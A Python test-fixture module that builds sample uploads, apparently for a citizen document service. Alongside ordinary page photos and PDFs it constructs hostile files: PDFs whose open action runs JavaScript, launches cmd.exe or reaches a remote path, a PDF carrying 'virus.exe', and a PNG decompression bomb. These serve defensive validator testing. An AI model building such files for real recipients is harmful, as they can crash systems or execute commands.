"""Files as citizens send them, and as attackers do."""

import io
import struct
import zlib

from PIL import Image, ImageDraw, ImageFilter
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


def page(width: int = 1240, height: int = 1754, ink: int = 20, paper: int = 240) -> Image.Image:
    """A page of print, in focus."""
    image = Image.new("L", (width, height), paper)
    draw = ImageDraw.Draw(image)
    for row in range(60, height - 60, 30):
        for column in range(60, width - 120, 90):
            draw.text((column, row), "Déclaration", fill=ink)
    return image.convert("RGB")


def encoded(image: Image.Image, kind: str = "JPEG", **options: object) -> bytes:
    made = io.BytesIO()
    image.save(made, kind, **options)
    return made.getvalue()


def photo() -> bytes:
    return encoded(page())


def blurred() -> bytes:
    return encoded(page().filter(ImageFilter.GaussianBlur(6)))


def photo_with_place() -> bytes:
    """A photo lying on its side, whose EXIF data tell where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = "chez moi"
    exif.get_ifd(0x8825)[1] = "N"
    return encoded(page(1754, 1240), exif=exif, comment=b"un secret")


def pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    return _written(writer)


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("secret", algorithm="RC4-128")
    return _written(writer)


def pdf_with_script() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('bonjour');"),
        }
    )
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _written(writer)


def pdf_that_launches() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    writer.root_object[NameObject("/OpenAction")] = action
    return _written(writer)


def pdf_that_leaves() -> bytes:
    """It opens a file of another machine, which is told who opens it."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    there = {NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject("//h/a")}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(there)
    return _written(writer)


def pdf_with_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("virus.exe", b"MZ")
    return _written(writer)


def png_bomb(side: int = 40_000) -> bytes:
    """A PNG of a few kilobytes that says it is 1.6 gigapixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + body))
        return struct.pack(">I", len(body)) + kind + body + check

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    body = zlib.compress(b"\0" * 1_000_000)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


def _written(writer: PdfWriter) -> bytes:
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()
